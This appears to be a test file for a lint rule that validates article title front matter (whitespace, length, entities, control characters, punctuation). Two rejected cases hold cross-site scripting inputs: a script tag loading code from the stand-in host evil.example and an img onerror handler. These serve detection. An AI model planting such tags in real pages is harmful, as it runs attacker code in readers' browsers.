import title from "../../../rules/front-matter/title.js";
import { testRule } from "../../support/rule-tester.js";

const article = (line: string, body = "正文。") => `---\n${line}\n---\n\n${body}\n`;

testRule(title, {
  accepts: [
    { name: "a title", article: article("title: 秋天的第一场雨") },
    { name: "an empty value, which is a matter of its type", article: article("title:") },
    {
      name: "an empty text or blanks, which are a matter of the schema",
      article: article("title: ''\nsubtitle: '  '"),
      options: { keys: ["title", "subtitle"], min: 9 },
    },
    { name: "a title in a block", article: article("title: >\n  秋天的\n  第一场雨") },
    { name: "no title, which is a matter of the schema", article: article("author: 小报") },
    { name: "a title that is no text", article: article("title: 1984") },
    { name: "a title of a template", article: article("title: '{{ name }} &amp; more '") },
    { name: "a title about HTML", article: article("title: How to use <video> and &copy; in a page") },
    { name: "text of another encoding, which is told wherever it stands", article: article("title: 锟斤拷之秋") },
    { name: "references to what is no text", article: article("title: '一 &#0; 二 &#x81; 三'") },
    { name: "a title about scripts", article: article("title: How to use <script> and onload = in a page") },
    { name: "a tab by an escape", article: article('title: "秋\\t雨"') },
    { name: "dots that mean something", article: article("title: 然后……\ndescription: 完。") },
    { name: "a title in French", article: article("title: Château à Noël, où êtes-vous") },
    {
      name: "120 characters, of which one is a family",
      article: article(`title: ${"雨".repeat(119)}👨‍👩‍👧‍👦`),
    },
    { name: "other characters at the end, as allowed", article: article("title: 下雨了。"), options: { end: "" } },
    {
      name: "invisible characters around the title, which text/invisible reports",
      article: article("title: '\u200b秋雨\ufeff'"),
    },
    { name: "a name with an underscore", article: article("title: node_modules", "node/modules") },
    { name: "underscores that the text has too", article: article("title: 渡口_早市", "渡口_早市，渡口：早市") },
    { name: "underscores of which the text says nothing", article: article("title: 渡口_早市", "桥头：早市") },
    { name: "a text that replaces them in two ways", article: article("title: 渡口_早市", "渡口：早市，渡口|早市") },
    { name: "words between which the text has letters", article: article("title: 渡口_早市", "渡口的早市") },
  ],
  rejects: [
    {
      name: "whitespace at the end of a text of several lines, whose newline stays",
      article: '---\ntitle: «"海边的\n  灯塔 "»\n---\n',
      messages: '"title" starts or ends with whitespace. Remove the whitespace.',
      fixed: '---\ntitle: "海边的\n  灯塔"\n---\n',
    },
    {
      name: "one character too many",
      article: article(`title: «${"雨".repeat(120)}👨‍👩‍👧‍👦»`),
      messages: '"title" has 121 characters, but at most 120 are allowed. Shorten the text.',
    },
    {
      name: "too few characters",
      article: article("title: «雨»"),
      options: { min: 4 },
      messages: '"title" has 1 character, but at least 4 are required. Use a longer text.',
    },
    {
      name: "outer blanks, full-width ones too",
      article: article("title: «'\u3000秋雨 '»"),
      messages: '"title" starts or ends with whitespace. Remove the whitespace.',
      fixed: article("title: '秋雨'"),
    },
    {
      name: "control characters and controls of direction that are hidden behind escapes",
      article: article('title: «"\\e[31m秋雨\\u202E来"»'),
      messages:
        '"title" contains an escaped control character (U+001B) that changes how pages and terminals show text. Remove it.',
      unsafelyFixed: article('title: "[31m秋雨来"'),
    },
    {
      name: "whitespace around an escape, which no fix turns into the invisible character itself",
      article: article('title: «" 秋\\u200B雨"»'),
      messages: '"title" starts or ends with whitespace. Remove the whitespace.',
    },
    {
      name: "an escaped zero-width space at the end, which no other rule sees",
      article: article('title: «"秋雨\\u200B"»'),
      messages: '"title" starts or ends with whitespace. Remove the whitespace.',
      fixed: article('title: "秋雨"'),
    },
    {
      name: "whitespace around other escapes",
      article: article('title: «" \\u8336\\t酒"»'),
      messages: '"title" starts or ends with whitespace. Remove the whitespace.',
      fixed: article('title: "茶\\t酒"'),
    },
    {
      name: "characters that file names cannot have, which the body has",
      article: article("title: «'出海_抢单_成'»", "<p>出海&ldquo;抢单”成</p>"),
      messages:
        '"title" has "_" in place of characters that file names cannot have. The article has the title "出海“抢单”成". Use that text.',
      fixed: article("title: '出海_抢单_成'", "<p>出海&ldquo;抢单”成</p>"),
      unsafelyFixed: article("title: '出海“抢单”成'", "<p>出海&ldquo;抢单”成</p>"),
    },
    {
      name: "such characters at the edges, which the description has",
      article: article("title: «_图_ What is it_»\ndescription: '[图] What is it?'"),
      messages:
        '"title" has "_" in place of characters that file names cannot have. The article has the title "[图] What is it?". Use that text.',
      unsafelyFixed: article("title: '[图] What is it?'\ndescription: '[图] What is it?'"),
    },
    {
      name: "a script",
      article: article("title: 秋雨«<script src=//evil.example/a.js>»</script>"),
      messages:
        '"title" contains "<script src=//evil.example/a.js>", which runs in the browsers of readers if the theme does not escape titles. Remove it.',
    },
    {
      name: "a tag with a handler",
      article: article("title: 秋雨«<img src=x onerror=»alert(1)>"),
      messages:
        '"title" contains "<img src=x onerror=", which runs in the browsers of readers if the theme does not escape titles. Remove it.',
    },
    {
      name: "tags of formatting",
      article: article("title: «<b>»秋雨</b><br/>来了"),
      messages: '"title" contains the HTML tag "<b>", which most themes show as text. Remove the tag.',
      unsafelyFixed: article("title: 秋雨来了"),
    },
    {
      name: "character references",
      article: article("title: '茶 «&amp;» 酒 &#8220;对饮&#x201d;'"),
      messages: '"title" contains "&amp;", which most themes show as text. Use the character "&".',
      unsafelyFixed: article("title: '茶 & 酒 “对饮”'"),
    },
    {
      name: "a full stop",
      article: article("title: 下雨了«。»"),
      messages: '"title" ends with "。". Remove the "。" at the end.',
      unsafelyFixed: article("title: 下雨了"),
    },
    {
      name: "a full stop of another script, where that is wanted",
      article: article("subtitle: Rain came«.»"),
      options: { keys: ["subtitle"], end: "." },
      messages: '"subtitle" ends with ".". Remove the "." at the end.',
      unsafelyFixed: article("subtitle: Rain came"),
    },
    {
      name: "references as browsers read them, at their place where the title is written as it reads",
      article: article("title: '一 «&#151;» 二 &amp; 三 &#0;'"),
      messages: '"title" contains "&#151;", which most themes show as text. Use the character "—".',
      unsafelyFixed: article("title: '一 — 二 & 三 &#0;'"),
    },
    {
      name: "references in an escaped title",
      article: article('title: «"\\u8336 &amp; 酒"»'),
      messages: '"title" contains "&amp;", which most themes show as text. Use the character "&".',
      unsafelyFixed: article('title: "茶 & 酒"'),
    },
    {
      name: "each cause once",
      article: article("title: «' «<b>»秋雨</b> «&quot;»来«。»'»"),
      messages: [
        '"title" starts or ends with whitespace. Remove the whitespace.',
        '"title" contains the HTML tag "<b>", which most themes show as text. Remove the tag.',
        '"title" contains "&quot;", which most themes show as text. Use the character """.',
        '"title" ends with "。". Remove the "。" at the end.',
      ],
      fixed: article("title: '<b>秋雨</b> &quot;来。'"),
      unsafelyFixed: article("title: '秋雨 \"来'"),
    },
  ],
});
